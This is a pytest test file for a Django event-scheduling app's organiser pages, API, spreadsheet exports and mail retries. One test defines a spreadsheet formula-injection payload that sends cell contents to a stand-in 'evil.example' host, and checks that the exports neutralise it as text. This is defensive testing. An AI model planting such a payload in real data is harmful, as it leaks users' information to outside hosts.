"""The organiser's pages and API as the staff use them: create an event, run the scheduler, read the results,
print, export."""

import html
from io import BytesIO

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from grappe.conftest import committed
from grappe.core import outbox
from grappe.core.models import JobStatus, MailStatus, OutgoingMail
from grappe.core.tests.mail_backends import refusing_mail  # noqa: F401
from grappe.events.models import Event, MeetingStatus, Phase, RequestStatus, ScheduleRun

from .factories import make_request, place, register_guest

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def test_the_staff_create_an_event_with_two_sessions_and_named_rooms(staff_client):
    response = staff_client.post(reverse("events:organiser-event-create"), {
        "form_token": "7c1e0c6e-2d59-4a43-9a53-1f7d2b1f0e11", "title": "Journée B2B", "audience": "members",
        "registration_opens": "2031-04-01T09:00", "registration_closes": "2031-05-01T17:00",
        "slot_minutes": 20,
        "sessions": "2031-05-13 09:00-12:00\n2031-05-13 13:30–15:30", "rooms": "Salon A\nSalon B",
        "table_count": ""})

    event = Event.objects.get()
    assert response.status_code == 302 and response.url == reverse("events:organiser-event", args=[event.pk])
    assert event.slots.count() == 9 + 6
    assert list(event.tables.values_list("label", flat=True)) == ["Salon A", "Salon B"]


def test_a_session_line_that_does_not_read_is_shown_with_what_was_typed(staff_client):
    response = staff_client.post(reverse("events:organiser-event-create"), {
        "form_token": "7c1e0c6e-2d59-4a43-9a53-1f7d2b1f0e12", "title": "Journée B2B", "audience": "members",
        "registration_opens": "2031-04-01T09:00", "registration_closes": "2031-05-01T17:00",
        "slot_minutes": 20,
        "sessions": "mardi matin", "table_count": 4})

    assert response.status_code == 200
    assert "mardi matin" in response.content.decode()
    assert not Event.objects.exists()


def test_running_the_scheduler_from_its_page_shows_the_figures(staff_client, event, alpha, bravo, charlie):
    event.phase = Phase.SCHEDULING
    event.save()
    make_request(alpha, bravo, RequestStatus.ACCEPTED)
    make_request(charlie, alpha, RequestStatus.ACCEPTED)
    charlie.unavailable_slots.set(event.slots.all())
    url = reverse("events:organiser-scheduler", args=[event.pk])

    with committed():
        assert staff_client.post(url).status_code == 302
    page = staff_client.get(url).content.decode()

    assert 'data-testid="placed">1 <span class="fs-6 text-muted">/ 2</span>' in page
    assert "1 demande non placée" in page  # Charlie, unavailable all day
    assert "meilleur planning possible" in page  # said as an organiser would, not in solver terms
    assert "borne" not in page and "heuristique" not in page and "poids" not in page
    assert reverse("events:organiser-request-place", args=[event.pk, charlie.requests_sent.get().pk]) in page


def test_the_api_runs_the_scheduler_and_lists_the_meetings(staff_client, event, alpha, bravo):
    event.phase = Phase.SCHEDULING
    event.save()
    make_request(alpha, bravo, RequestStatus.ACCEPTED, priority=3)

    with committed():
        started = staff_client.post(reverse("api:events-organiser-run", args=[event.pk]))
    run = started.json()
    status = staff_client.get(reverse("api:events-organiser-run-status", args=[event.pk, run["id"]])).json()
    meetings = staff_client.get(reverse("api:events-organiser-meetings", args=[event.pk])).json()

    assert started.status_code == 202
    assert status["status"] == "done" and status["placed_weight"] == 3 and status["unplaced"] == []
    assert [(m["requester"]["registration"], m["recipient"]["registration"],
             m["status"]) for m in meetings] == [
        (alpha.pk, bravo.pk, "planned")]


def test_the_outcomes_export_has_both_sides_accounts(staff_client, event, alpha, bravo):
    meeting = place(make_request(alpha, bravo, RequestStatus.ACCEPTED), 0, 1, MeetingStatus.PUBLISHED)
    meeting.seats.filter(registration=alpha).update(happened=True, outcome="quote",
                                                    notes="Devis pour 200 pièces")

    response = staff_client.get(reverse("events:organiser-export", args=[event.pk, "outcomes"]))

    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert "Devis pour 200 pièces" in rows[1]


LEAK = '=HYPERLINK("https://evil.example/?leak="&B3,"Click me")'


def test_names_organisations_and_notes_typed_as_formulas_are_text_in_both_exports(staff_client, event, alpha):
    guest = register_guest(event, guest_name=LEAK, guest_organisation="+Studio Externe")
    meeting = place(make_request(alpha, guest, RequestStatus.ACCEPTED), 0, 1, MeetingStatus.PUBLISHED)
    meeting.seats.filter(registration=alpha).update(happened=True, notes="-Devis pour 200 pièces")

    def workbook(kind):
        content = staff_client.get(reverse("events:organiser-export", args=[event.pk, kind])).content
        return load_workbook(BytesIO(content)).active

    attendance, outcomes = workbook("attendance"), workbook("outcomes")
    typed = {"attendance": (attendance, [LEAK, "+Studio Externe"]),
             "outcomes": (outcomes, [LEAK, "+Studio Externe", "-Devis pour 200 pièces"])}
    for kind, (sheet, texts) in typed.items():
        cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
        for text in texts:
            assert (cells[text].data_type, cells[text].quotePrefix) == ("s", True), (kind, text)
    planned_and_held = [(row[5].value, row[5].data_type) for row in attendance.iter_rows(min_row=2)]
    assert planned_and_held == [(1, "n"), (1, "n")]  # counts stay numbers


def test_the_follow_ups_list_meetings_with_a_quote_or_an_agreement(staff_client, event, alpha, bravo,
                                                                   charlie):
    quoted = place(make_request(alpha, bravo, RequestStatus.ACCEPTED), 0, 1, MeetingStatus.PUBLISHED)
    quoted.seats.filter(registration=bravo).update(outcome="agreement")
    place(make_request(charlie, alpha, RequestStatus.ACCEPTED), 1, 1, MeetingStatus.PUBLISHED)

    response = staff_client.get(reverse("events:organiser-follow-ups", args=[event.pk]))

    assert list(response.context["meetings"]) == [quoted]


def test_publishing_answers_normally_when_one_participants_mail_is_refused(
        staff_client, event, alpha, bravo, charlie, refusing_mail, django_capture_on_commit_callbacks):
    """One refused address neither fails the committed publication nor stops the others' mail; it is tried
    again later."""
    event.phase = Phase.SCHEDULING
    event.save()
    place(make_request(alpha, bravo, RequestStatus.ACCEPTED), status=MeetingStatus.PLANNED)
    refusing_mail.add(bravo.person.email)

    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(reverse("events:organiser-event-phase", args=[event.pk]),
                                     {"action": "publish"})

    assert response.status_code == 302
    event.refresh_from_db()
    assert event.phase == Phase.PUBLISHED and event.meetings.get().status == MeetingStatus.PUBLISHED
    assert sorted(m.to[0] for m in mail.outbox) == sorted([alpha.person.email, charlie.person.email])
    failed = OutgoingMail.objects.get(to=bravo.person.email)
    assert failed.status == MailStatus.PENDING and failed.attempts == 1

    refusing_mail.clear()
    OutgoingMail.objects.filter(pk=failed.pk).update(next_attempt_at=timezone.now())  # its delay has passed
    outbox.send_due()
    assert mail.outbox[-1].to == [bravo.person.email] and "agenda" in mail.outbox[-1].body.lower()


def test_opening_the_requests_answers_normally_when_one_participants_mail_is_refused(
        staff_client, event, alpha, bravo, charlie, refusing_mail, django_capture_on_commit_callbacks):
    event.phase = Phase.REGISTRATION
    event.save()
    refusing_mail.add(alpha.person.email)

    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(reverse("events:organiser-event-phase", args=[event.pk]),
                                     {"action": "open_requests"})

    assert response.status_code == 302
    event.refresh_from_db()
    assert event.phase == Phase.REQUESTS
    assert sorted(m.to[0] for m in mail.outbox) == sorted([bravo.person.email, charlie.person.email])
    assert OutgoingMail.objects.get(to=alpha.person.email, status=MailStatus.PENDING).attempts == 1


def test_the_scheduler_page_says_why_requests_were_not_placed_as_an_organiser_would(
        staff_client, staff, event, alpha, bravo, charlie):
    reasons = {"both_busy": make_request(alpha, bravo, RequestStatus.ACCEPTED),
               "no_table": make_request(bravo, charlie, RequestStatus.ACCEPTED),
               "participant_cap": make_request(charlie, alpha, RequestStatus.ACCEPTED)}
    ScheduleRun.objects.create(event=event, owner=staff, status=JobStatus.DONE, requests_count=3, unplaced=[
        {"request": request.pk, "reason": reason,
         "participant": charlie.pk if reason == "participant_cap" else None}
        for reason, request in reasons.items()])

    for url in ("events:organiser-scheduler", "events:organiser-schedule"):
        page = html.unescape(staff_client.get(reverse(url, args=[event.pk])).content.decode())
        assert "Les deux participants sont déjà pris sur tous les créneaux communs" in page
        assert "Plus aucune table libre sur les créneaux qu'ils pourraient partager" in page
        assert f"{charlie.display_name} a atteint son maximum de rencontres" in page
        for word in ("poids", "borne", "glouton", "heuristique", "weight", "bound", "greedy", "écart"):
            assert word not in page.lower()


def test_placing_a_meeting_by_hand_picks_among_many_slots_and_tables_by_typing_and_among_few_plainly(staff):
    from ..forms.organiser import PlaceForm
    from .factories import make_event

    big_day = PlaceForm(event=make_event(staff, slots=16, tables=20))
    assert "data-searchable" in str(big_day["slot"]) and "data-searchable" in str(big_day["table"])
    small_day = PlaceForm(event=make_event(staff, slots=4, tables=3, title="Petit déjeuner"))
    assert "data-searchable" not in str(small_day["slot"]) and "data-searchable" not in str(small_day["table"])
